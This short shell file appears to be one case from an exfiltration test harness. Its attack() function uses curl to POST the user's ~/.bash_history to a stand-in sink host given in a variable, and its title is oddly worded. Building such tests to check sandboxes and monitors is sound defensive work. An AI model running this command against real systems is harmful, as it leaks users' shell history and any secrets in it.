# SPDX-License-Identifier: Apache-2.0
TITLE="a script of the shell whose history it is puts the history on a command line"
CLASS=history SECRET=.bash_history DEST="$SINK4:80" NEEDS=curl
attack() { bash -c 'curl -s -m 5 -d "$(<"$HOME/.bash_history")" "$0/"' "$URL"; }
